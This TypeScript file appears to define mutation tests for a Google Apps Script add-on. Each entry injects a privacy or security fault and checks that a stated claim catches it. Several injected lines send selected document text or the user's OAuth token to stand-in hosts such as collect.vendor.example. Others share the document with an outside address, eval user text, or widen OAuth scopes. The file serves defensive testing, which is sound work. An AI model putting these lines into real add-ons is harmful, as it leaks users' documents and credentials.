import type { Mutation } from '../../mutation.ts'
import { googlePlaces } from '../places.ts'

const { usageCode: code, usageManifest: manifest } = googlePlaces
const opened = '  function openingOf(purpose) {\n'
const documentId = 'DocumentApp.getActiveDocument().getId()'

const opening = (line: string) => `${opened}    ${line}\n`

/** Faults in what runs at Google beside the dialogs, and in what the manifest asks for. */
export const googleScriptMutations: readonly Mutation[] = [
  {
    name: 'log-the-selected-text',
    claim: 'C1',
    edits: [{ file: code, find: opened, replace: opening('console.log(openPaper().selectedText());') }],
  },
  {
    name: 'log-the-address',
    claim: 'C1',
    edits: [
      { file: code, find: opened, replace: opening('Logger.log(Session.getActiveUser().getEmail());') },
    ],
  },
  {
    name: 'address-in-the-document’s-properties',
    claim: 'C1',
    edits: [
      {
        file: code,
        find: opened,
        replace: opening(
          'PropertiesService.getDocumentProperties().setProperty("by", Session.getActiveUser().getEmail());',
        ),
      },
    ],
  },
  {
    name: 'mail-the-text',
    claim: 'C1',
    edits: [
      {
        file: code,
        find: opened,
        replace: opening('MailApp.sendEmail("read@vendor.example", "text", openPaper().selectedText());'),
      },
    ],
  },
  {
    name: 'mail-nothing-of-anybody',
    claim: 'C4',
    edits: [
      {
        file: code,
        find: opened,
        replace: opening('MailApp.sendEmail("count@vendor.example", "opened", "once");'),
      },
    ],
  },
  {
    name: 'fetch-with-the-text',
    claim: 'C7',
    edits: [
      {
        file: code,
        find: opened,
        replace: opening(
          'UrlFetchApp.fetch("https://collect.vendor.example/", { method: "post", payload: openPaper().selectedText() });',
        ),
      },
    ],
  },
  {
    name: 'share-with-a-stranger',
    claim: 'C7',
    edits: [
      {
        file: code,
        find: opened,
        replace: opening('DocumentApp.getActiveDocument().addViewer("read@vendor.example");'),
      },
    ],
  },
  {
    name: 'document-in-the-script’s-properties',
    claim: 'C8',
    edits: [
      {
        file: code,
        find: opened,
        replace: opening(`PropertiesService.getScriptProperties().setProperty("last", ${documentId});`),
      },
    ],
  },
  {
    name: 'text-in-the-cache',
    claim: 'C8',
    edits: [
      {
        file: code,
        find: opened,
        replace: opening('CacheService.getDocumentCache().put("text", openPaper().selectedText());'),
      },
    ],
  },
  {
    name: 'store-of-a-database',
    claim: 'C9',
    edits: [
      {
        file: code,
        find: opened,
        replace: opening('Jdbc.getConnection("jdbc:mysql://db.vendor.example/all");'),
      },
    ],
  },
  {
    name: 'token-to-a-stranger',
    claim: 'C11',
    edits: [
      {
        file: code,
        find: opened,
        replace: opening('UrlFetchApp.fetch("https://vendor.example/?t=" + ScriptApp.getOAuthToken());'),
      },
    ],
  },
  {
    name: 'eval-in-the-script',
    claim: 'C11',
    edits: [{ file: code, find: opened, replace: opening('new Function(openPaper().selectedText())();') }],
  },
  {
    name: 'private-member',
    claim: 'C11',
    edits: [{ file: code, find: opened, replace: opening('(new (class { #a = 1 })());') }],
  },
  {
    name: 'markup-of-the-text',
    claim: 'C11',
    edits: [
      {
        file: code,
        find: opened,
        replace: opening('HtmlService.createHtmlOutput("<p>" + openPaper().selectedText() + "</p>");'),
      },
    ],
  },
  {
    name: 'menu-that-needs-an-authorisation',
    claim: 'review',
    edits: [
      {
        file: code,
        find: '  function addMenu() {\n',
        replace: '  function addMenu() {\n    PropertiesService.getUserProperties().getProperty("menu");\n',
      },
    ],
  },
  {
    name: 'scope-for-all-documents',
    claim: 'C11',
    edits: [{ file: manifest, find: 'documents.currentonly', replace: 'documents' }],
  },
  {
    name: 'scope-that-is-not-used',
    claim: 'C11',
    edits: [
      {
        file: manifest,
        find: '"oauthScopes": [\n',
        replace: '"oauthScopes": [\n    "https://www.googleapis.com/auth/drive.readonly",\n',
      },
    ],
  },
  {
    name: 'scope-nobody-was-told-of',
    claim: 'C14',
    edits: [
      {
        file: manifest,
        find: '"oauthScopes": [\n',
        replace: '"oauthScopes": [\n    "https://www.googleapis.com/auth/userinfo.profile",\n',
      },
    ],
  },
  {
    name: 'old-runtime',
    claim: 'C11',
    edits: [{ file: manifest, find: '"V8"', replace: '"DEPRECATED_ES5"' }],
  },
  {
    name: 'exceptions-logged',
    claim: 'C14',
    edits: [{ file: manifest, find: '"NONE"', replace: '"STACKDRIVER"' }],
  },
]
